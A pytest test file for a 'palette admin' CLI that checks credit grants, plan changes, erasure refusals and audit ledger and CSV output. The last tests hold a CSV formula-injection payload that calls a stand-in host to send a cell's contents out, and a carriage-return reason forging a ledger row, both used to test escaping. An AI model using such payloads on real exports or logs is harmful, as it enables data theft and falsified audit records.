"""`palette admin grant`, `plan` and `erase` against the session's PostgreSQL: what they
record is what the user's state, the read models' folds and the auditors' independent count
show; a retry records nothing; every refusal is one line (exit 2) and records nothing."""

from __future__ import annotations

import uuid
from collections.abc import Iterator
from typing import Any

import pytest

from adapters import cli
from adapters.cli.connect import event_store
from projections import audit
from projections.audit import _balance_effect
from projections.models import READ_MODELS
from projections.replay import Replayer
from tests.waiting import wait_until

from .test_cli_analysts_auditors import env, one_line  # noqa: F401 - the shared fixture and check


@pytest.fixture
def user(service: Any) -> uuid.UUID:
    """A fresh user on the free plan, with its sign-up credits (50)."""
    user_id: uuid.UUID = service.register(f"operators-{uuid.uuid4()}").value[0]
    return user_id


@pytest.fixture
def log(settings: Any) -> Iterator[Replayer]:
    app = event_store(settings)
    try:
        yield Replayer(app)
    finally:
        app.close()


def _events(log: Replayer, user_id: uuid.UUID) -> list[Any]:
    return list(log.stream(user_id))


def _folded(events: list[Any], model: str) -> tuple[dict[Any, Any], list[Any]]:
    rows: dict[Any, Any] = {}
    appended: list[Any] = []
    for e in events:
        changed, out = READ_MODELS[model].evolve(rows, e)
        rows.update(changed)
        appended += out
    return rows, appended


def test_a_grant_is_recorded_once_and_every_count_agrees(env: dict[str, str], user: uuid.UUID, service: Any,  # noqa: F811
                                                        log: Replayer, capsys: pytest.CaptureFixture[str]) -> None:
    grant_id = uuid.uuid4()
    args = ["admin", "grant", str(user), "100", "--reason", "goodwill: a failed job", "--grant-id", str(grant_id)]
    assert cli.main(args) == 0
    assert capsys.readouterr().out == f"granted 100 credits to {user} (grant {grant_id}): balance 150\n"
    assert cli.main(args) == 0  # the retry after an unclear outcome
    captured = capsys.readouterr()
    assert (captured.out, captured.err) == (
        f"grant {grant_id} was already recorded for {user}: nothing granted now; balance 150\n", "")
    assert service.get_user(user).credits == 150  # what GET /me shows
    events = _events(log, user)
    grants = [e for e in events if e.type == "CreditsGranted"]
    assert [(g.data["amount"], g.data["reason"], g.data["grant_id"]) for g in grants] == [
        (50, "signup", None), (100, "goodwill: a failed job", str(grant_id))]
    independent = sum(_balance_effect(e) for e in events)  # the auditors' count, apart from the folds
    users, _ = _folded(events, "users")
    _, ledger = _folded(events, "billing_events")
    assert independent == users[(user,)]["credits"] == sum(r["balance_delta"] for r in ledger) == 150
    assert [(r["type"], r["amount"], r["ref"]) for r in ledger] == [
        ("grant", 50, "signup"), ("grant", 100, "goodwill: a failed job")]


def test_a_grant_without_an_id_says_the_one_it_made_before_recording_it(
        env: dict[str, str], user: uuid.UUID, log: Replayer, capsys: pytest.CaptureFixture[str]) -> None:  # noqa: F811
    assert cli.main(["admin", "grant", str(user), "7", "--reason", "support"]) == 0
    first, done = capsys.readouterr().out.splitlines()
    grant_id = first.split()[1].rstrip(":")
    assert first.endswith(f"run it again with --grant-id {grant_id}")
    assert done == f"granted 7 credits to {user} (grant {grant_id}): balance 57"
    assert cli.main(["admin", "grant", str(user), "7", "--reason", "support", "--grant-id", grant_id]) == 0
    assert "was already recorded" in capsys.readouterr().out
    assert [e.data["grant_id"] for e in _events(log, user) if e.type == "CreditsGranted"] == [None, grant_id]


def test_a_plan_change_is_recorded_once(env: dict[str, str], user: uuid.UUID, service: Any,  # noqa: F811
                                       log: Replayer, capsys: pytest.CaptureFixture[str]) -> None:
    assert cli.main(["admin", "plan", str(user), "pro"]) == 0
    assert capsys.readouterr().out.startswith(f"{user} moved to plan pro: 4 job(s) at once, 20 rule(s); ")
    assert cli.main(["admin", "plan", str(user), "pro"]) == 0
    assert capsys.readouterr().out.startswith(f"{user} was already on plan pro: nothing changed; 4 job(s) at once")
    assert service.get_user(user).plan == "pro"
    events = _events(log, user)
    assert [e.data["plan"] for e in events if e.type == "PlanChanged"] == ["pro"]
    users, _ = _folded(events, "users")
    assert users[(user,)]["plan"] == "pro" and users[(user,)]["credits"] == 50  # no credits with the plan


def _refused(args: list[str], capsys: pytest.CaptureFixture[str], *needles: str) -> None:
    """Exit 2 and one line, whether argparse refused the arguments (SystemExit) or the command did."""
    try:
        code = cli.main(args)
    except SystemExit as e:
        code = e.code  # type: ignore[assignment]
    assert code == 2
    assert one_line(capsys, *needles) == ""


@pytest.mark.parametrize(("args", "said"), [
    (["0", "--reason", "x"], "a grant is 1 to 1,000,000 credits, not 0"),
    (["-5", "--reason", "x"], "a grant is 1 to 1,000,000 credits, not -5"),
    (["1000001", "--reason", "x"], "a grant is 1 to 1,000,000 credits, not 1000001"),
    (["1.5", "--reason", "x"], "not a whole number of credits: '1.5'"),
    (["ten", "--reason", "x"], "not a whole number of credits: 'ten'"),
    (["10"], "the following arguments are required: --reason"),
    (["10", "--reason", ""], "a reason is 1 to 200 characters, not 0"),
    (["10", "--reason", "r" * 201], "a reason is 1 to 200 characters, not 201"),
    (["10", "--reason", "nul\x01here"], "not allowed (U+0001)"),
    (["10", "--reason", "x", "--grant-id", "not-a-uuid"], "not a stream/user id (UUID): 'not-a-uuid'"),
])
def test_a_bad_grant_argument_is_one_line_and_records_nothing(
        args: list[str], said: str, env: dict[str, str], user: uuid.UUID, log: Replayer,  # noqa: F811
        capsys: pytest.CaptureFixture[str]) -> None:
    before = len(_events(log, user))
    _refused(["admin", "grant", str(user), *args], capsys, "palette admin grant: ", said)
    assert len(_events(log, user)) == before


def test_a_bad_plan_or_user_id_is_one_line(env: dict[str, str], user: uuid.UUID,  # noqa: F811
                                          capsys: pytest.CaptureFixture[str]) -> None:
    _refused(["admin", "plan", str(user), "gold"], capsys, "palette admin plan: ", "invalid choice: 'gold'",
             "'free', 'pro'")
    _refused(["admin", "plan", "nobody", "pro"], capsys, "not a stream/user id (UUID): 'nobody'")
    _refused(["admin", "grant", "nobody", "5", "--reason", "x"], capsys, "not a stream/user id (UUID): 'nobody'")


@pytest.mark.parametrize("erased", [False, True], ids=["never-registered", "erased"])
def test_a_user_who_is_not_there_is_one_line_and_nothing_is_recorded(
        erased: bool, env: dict[str, str], user: uuid.UUID, service: Any, log: Replayer,  # noqa: F811
        capsys: pytest.CaptureFixture[str]) -> None:
    target = user if erased else uuid.uuid4()
    if erased:
        assert service.erase_user(target) is True  # the Erased event `palette admin erase` records
    before = len(_events(log, target))
    grant_id = uuid.uuid4()
    _refused(["admin", "grant", str(target), "5", "--reason", "x", "--grant-id", str(grant_id)], capsys,
             f"palette admin grant: {target}: user not found; nothing granted")
    _refused(["admin", "plan", str(target), "pro"], capsys, f"palette admin plan: {target}: user not found")
    assert len(_events(log, target)) == before


def test_erasing_a_user_never_registered_is_one_line_exit_2_as_a_grant_or_plan_is(
        env: dict[str, str], log: Replayer, capsys: pytest.CaptureFixture[str]) -> None:  # noqa: F811
    nobody = uuid.uuid4()
    _refused(["admin", "erase", str(nobody)], capsys, f"palette admin erase: {nobody}: user not found; nothing erased")
    assert _events(log, nobody) == []


def test_a_reasons_line_breaks_print_in_its_ledger_row_not_as_rows_of_their_own(
        apps: Any, env: dict[str, str], user: uuid.UUID, conn: Any, capsys: pytest.CaptureFixture[str]) -> None:  # noqa: F811
    """A grant's reason may hold line breaks (text the API stores), and the ledger keeps it as the
    entry's ref: `palette audit ledger` prints one line an entry, the reason's breaks escaped, so
    no reason can print as a forged entry (a carriage return overwriting its own row's amount)."""
    forged = "    3 2026-01-01T00:00:00+00:00        grant          1       1       51  goodwill"
    reason = f"goodwill\r{forged}\nmore"
    assert cli.main(["admin", "grant", str(user), "1000000", "--reason", reason]) == 0
    capsys.readouterr()
    wait_until(lambda: len(audit.ledger(conn, user)) == 2, timeout_s=60, what="the grant in the ledger")
    assert cli.main(["audit", "ledger", "--user", str(user)]) == 0
    out = capsys.readouterr().out
    assert len(out.splitlines()) == 3, out  # the header and the two entries
    header, signup, grant = out.splitlines()
    assert header.split() == ["seq", "occurred_at", "type", "amount", "delta", "balance", "ref"]
    assert signup.split()[2:] == ["grant", "50", "50", "50", "signup"]
    assert grant.split()[2:6] == ["grant", "1000000", "1000000", "1000050"]
    assert grant.endswith(f"  goodwill\\r{forged}\\nmore")


@pytest.mark.parametrize("command", [["audit", "ledger", "--user"], ["audit", "export", "--format", "csv"]],
                         ids=["ledger", "export-csv"])
def test_a_reason_the_locale_cannot_spell_prints_as_utf8_not_a_traceback(
        command: list[str], apps: Any, env: dict[str, str], user: uuid.UUID, conn: Any,  # noqa: F811
        capsys: pytest.CaptureFixture[str]) -> None:
    """An operator's reason may hold any printable character; the ledger's lines were printed in
    the locale's encoding, and in a latin-1 or ASCII one an emoji was a UnicodeEncodeError
    traceback. They are UTF-8, as `palette query` and `replay` write theirs."""
    import subprocess
    import sys
    from pathlib import Path

    reason = f"goodwill ☕ {uuid.uuid4()}"
    assert cli.main(["admin", "grant", str(user), "7", "--reason", reason]) == 0
    capsys.readouterr()
    wait_until(lambda: len(audit.ledger(conn, user)) == 2, timeout_s=60, what="the grant in the ledger")
    argv = [*command, str(user)] if command[-1] == "--user" else command
    result = subprocess.run([sys.executable, "-m", "adapters.cli", *argv], capture_output=True, timeout=120,
                            env={**env, "PYTHONIOENCODING": "latin-1"}, cwd=Path(__file__).resolve().parents[2],
                            check=False)
    assert b"Traceback" not in result.stderr, result.stderr.decode(errors="replace")
    assert result.returncode == 0
    assert [line for line in result.stdout.decode().splitlines() if reason in line], result.stdout


def test_a_reason_that_reads_as_a_formula_is_text_in_every_csv(
        apps: Any, env: dict[str, str], user: uuid.UUID, service: Any, conn: Any,  # noqa: F811
        capsys: pytest.CaptureFixture[str]) -> None:
    """A grant's reason opened from `audit export` or `palette query` CSV in a spreadsheet ran as a
    formula (this one sends the cell beside it away when clicked): a text cell beginning with
    = + - @, a tab or a carriage return is written after a quote; a negative number stays one."""
    import csv
    import io

    reason = '=HYPERLINK("https://evil.example/?"&A1,"click")'
    assert cli.main(["admin", "grant", str(user), "7", "--reason", reason]) == 0
    job = service.create_job(user, "interior", 1).value
    wait_until(lambda: len(audit.ledger(conn, user)) == 3, timeout_s=60, what="the grant and reserve in the ledger")
    capsys.readouterr()
    assert cli.main(["audit", "export", "--format", "csv"]) == 0
    exported = list(csv.reader(io.StringIO(capsys.readouterr().out, newline="")))
    assert not [cell for row in exported for cell in row if cell.startswith("=")]
    mine = [dict(zip(exported[0], row, strict=True)) for row in exported[1:] if str(user) in row]
    assert [(r["type"], r["balance_delta"], r["ref"]) for r in mine] == [
        ("grant", "50", "signup"), ("grant", "7", "'" + reason), ("reserve", "-1", str(job))]
    sql_text = f"SELECT type, balance_delta, ref FROM billing_events WHERE user_id = '{user}' ORDER BY seq"  # noqa: S608
    assert cli.main(["query", sql_text, "--format", "csv"]) == 0
    queried = list(csv.reader(io.StringIO(capsys.readouterr().out, newline="")))
    assert queried == [["type", "balance_delta", "ref"], ["grant", "50", "signup"], ["grant", "7", "'" + reason],
                       ["reserve", "-1", str(job)]]
